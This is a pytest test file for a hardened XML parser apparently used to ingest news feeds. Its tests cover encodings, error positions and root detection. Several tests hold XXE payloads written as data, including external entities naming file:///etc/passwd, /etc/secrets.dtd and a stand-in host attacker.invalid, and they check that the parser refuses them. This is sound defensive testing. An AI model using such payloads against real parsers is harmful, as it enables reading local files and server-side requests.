"""The safe XML entry point: hostile copy refused fast and clearly, encodings read right."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from workers.errors import HostileInputError, ParseError
from workers.formats.xmlsafe import MAX_DEPTH, decode_xml, parse_xml, peek_root

SAMPLES = Path(__file__).parent / "samples" / "xml"


def _refused(raw: bytes) -> HostileInputError:
    start = time.perf_counter()
    with pytest.raises(HostileInputError) as caught:
        parse_xml(raw, format="testfmt")
    assert time.perf_counter() - start < 0.5, "hostile input must be refused quickly"
    assert caught.value.format == "testfmt"
    assert caught.value.position
    return caught.value


def test_billion_laughs_refused_as_entity_expansion():
    error = _refused((SAMPLES / "billion-laughs.xml").read_bytes())
    assert "billion laughs" in str(error)
    assert error.position.startswith("line 4")


def test_external_file_entity_refused_as_xxe():
    error = _refused((SAMPLES / "xxe-file.xml").read_bytes())
    assert "XXE" in str(error)
    assert "file:///etc/passwd" in str(error)
    assert error.position.startswith("line 3")


def test_external_http_entity_refused_as_xxe():
    error = _refused((SAMPLES / "xxe-http.xml").read_bytes())
    assert "XXE" in str(error) and "attacker.invalid" in str(error)


def test_external_parameter_entity_refused():
    error = _refused((SAMPLES / "xxe-parameter.xml").read_bytes())
    assert "XXE" in str(error)


def test_plain_internal_entity_refused_too():
    error = _refused(b'<!DOCTYPE a [<!ENTITY who "Reuters">]><a>&who;</a>')
    assert "entity declaration 'who'" in str(error)


def test_ten_thousand_deep_nesting_refused():
    error = _refused((SAMPLES / "deep-nesting.xml").read_bytes())
    assert f"deeper than {MAX_DEPTH}" in str(error)


def test_nesting_just_past_the_limit_refused_and_at_the_limit_accepted():
    def nested(depth: int) -> bytes:
        return b"<a>" * depth + b"x" + b"</a>" * depth

    assert parse_xml(nested(MAX_DEPTH), format="t").root.tag == "a"
    error = _refused(nested(MAX_DEPTH + 1))
    assert "line 1" in error.position


def test_external_dtd_is_named_but_never_loaded():
    raw = b'<!DOCTYPE nitf SYSTEM "http://attacker.invalid/nitf.dtd"><nitf>ok</nitf>'
    assert parse_xml(raw, format="nitf").root.text == "ok"


def test_doctype_quoted_inside_cdata_is_only_text():
    raw = b'<a><![CDATA[<!DOCTYPE x [<!ENTITY y "z">]>]]></a>'
    assert "<!ENTITY" in parse_xml(raw, format="t").root.text


@pytest.mark.parametrize(
    ("raw", "position"),
    [
        (b"<a>\n  <b>text</a>", "line 2, column"),
        (b"<a><b>cut short", "line 1, column"),
        (b"<a x='1' x='2'/>", "line 1, column"),
        (b"<a>one</a><b>two</b>", "line 1, column"),
    ],
)
def test_malformed_xml_gives_line_and_column(raw, position):
    with pytest.raises(ParseError) as caught:
        parse_xml(raw, format="nitf")
    assert not isinstance(caught.value, HostileInputError)
    assert caught.value.position.startswith(position)
    assert str(caught.value).startswith("nitf: malformed XML")


@pytest.mark.parametrize("raw", [b"", b"   \n\t", b"\xef\xbb\xbf"])
def test_empty_document(raw):
    with pytest.raises(ParseError, match="empty document"):
        parse_xml(raw, format="rss")


def test_declared_latin1_is_honoured():
    raw = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<a>Zürich café</a>'.encode("latin-1")
    doc = parse_xml(raw, format="t")
    assert doc.root.text == "Zürich café"


def test_declared_latin1_holding_cp1252_bytes_reads_as_cp1252():
    raw = '<?xml version="1.0" encoding="ISO-8859-1"?><a>“Oui” – dit-il</a>'.encode("cp1252")
    doc = parse_xml(raw, format="t")
    assert doc.root.text == "“Oui” – dit-il"
    assert doc.encoding == "cp1252"


def test_declared_windows_1252_is_honoured():
    raw = '<?xml version="1.0" encoding="windows-1252"?><a>€5 – “deal”</a>'.encode("cp1252")
    assert parse_xml(raw, format="t").root.text == "€5 – “deal”"


def test_undeclared_cp1252_falls_back_from_utf8():
    raw = "<a>Ministerpräsident – “Ja”</a>".encode("cp1252")
    doc = parse_xml(raw, format="t")
    assert doc.root.text == "Ministerpräsident – “Ja”"
    assert doc.encoding == "cp1252"


def test_utf16_with_bom_and_declaration():
    raw = '<?xml version="1.0" encoding="UTF-16"?>\n<a>Ελλάδα</a>'.encode("utf-16")
    assert parse_xml(raw, format="t").root.text == "Ελλάδα"


def test_declaration_blanking_keeps_line_numbers():
    raw = b'<?xml version="1.0" encoding="UTF-8"?>\n<a>\n<b></a>'
    with pytest.raises(ParseError) as caught:
        parse_xml(raw, format="t")
    assert caught.value.position.startswith("line 3")


def test_html_named_entities_become_characters_with_a_note():
    doc = parse_xml(b"<a>caf&eacute;&nbsp;noir &amp; cr&egrave;me</a>", format="t")
    assert doc.root.text == "café\u00a0noir & crème"
    assert "eacute" in doc.notes[0]


def test_unknown_named_entity_is_malformed():
    with pytest.raises(ParseError, match="notanentity"):
        parse_xml(b"<a>&notanentity;</a>", format="t")


def test_decode_xml_unknown_declared_encoding_falls_back():
    text, encoding = decode_xml(b'<?xml version="1.0" encoding="x-martian"?><a/>')
    assert encoding == "utf-8" and text.endswith("<a/>")


@pytest.mark.parametrize(
    ("raw", "local", "namespace"),
    [
        (b'<?xml version="1.0"?>\n<!-- hi -->\n<nitf version="3.5">', "nitf", None),
        (
            b'<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/">',
            "newsMessage",
            "http://iptc.org/std/nar/2006-10-01/",
        ),
        (
            b'<g2:newsItem xmlns:g2="http://iptc.org/std/nar/2006-10-01/" guid="x">',
            "newsItem",
            "http://iptc.org/std/nar/2006-10-01/",
        ),
        (b'\xef\xbb\xbf<rss version="2.0"><channel>', "rss", None),
        ('<feed xmlns="http://www.w3.org/2005/Atom">'.encode("utf-16"), "feed", None),
    ],
)
def test_peek_root(raw, local, namespace):
    peek = peek_root(raw)
    assert peek is not None and peek.local == local
    if namespace:
        assert peek.namespace == namespace


def test_peek_root_names_the_root_of_a_huge_doctype_from_its_name():
    raw = b'<?xml version="1.0"?><!DOCTYPE nitf [' + b"<!-- pad -->" * 2000 + b"]><nitf/>"
    assert peek_root(raw).local == "nitf"


def test_peek_root_none_for_text():
    assert peek_root(b"BEIRUT (Reuters) - Text") is None
    assert peek_root(b"") is None


def test_a_dtd_module_named_in_the_subset_is_not_loaded_and_not_refused() -> None:
    # NewsML 1.2 publishers pull in the NITF DTD this way; nothing is read either way.
    doc = parse_xml(
        b'<?xml version="1.0" encoding="ISO-8859-15"?>\n'
        b'<!DOCTYPE NewsML PUBLIC "urn:newsml:iptc.org:20031010:NewsMLv1.2.dtd:1" '
        b'"NewsML-1.2.dtd"\n[<!ENTITY % nitf SYSTEM "nitf-3-0.dtd"> %nitf; ]>\n'
        b"<NewsML><NewsItem/></NewsML>",
        format="newsml_1_2",
    )
    assert doc.root.tag == "NewsML"
    assert any("nitf-3-0.dtd" in note for note in doc.notes)


@pytest.mark.parametrize(
    "subset",
    [
        b'<!ENTITY % r SYSTEM "http://attacker.invalid/evil.dtd"> %r;',
        b'<!ENTITY % r SYSTEM "/etc/secrets.dtd"> %r;',
        b'<!ENTITY % r SYSTEM "file:evil.dtd"> %r;',
        b'<!ENTITY % r SYSTEM "module.dtd"> %r; <!ENTITY e "more">',
    ],
)
def test_anything_beyond_a_relative_dtd_module_is_still_refused(subset: bytes) -> None:
    with pytest.raises(HostileInputError):
        parse_xml(b"<!DOCTYPE a [" + subset + b"]><a>x</a>", format="nitf")
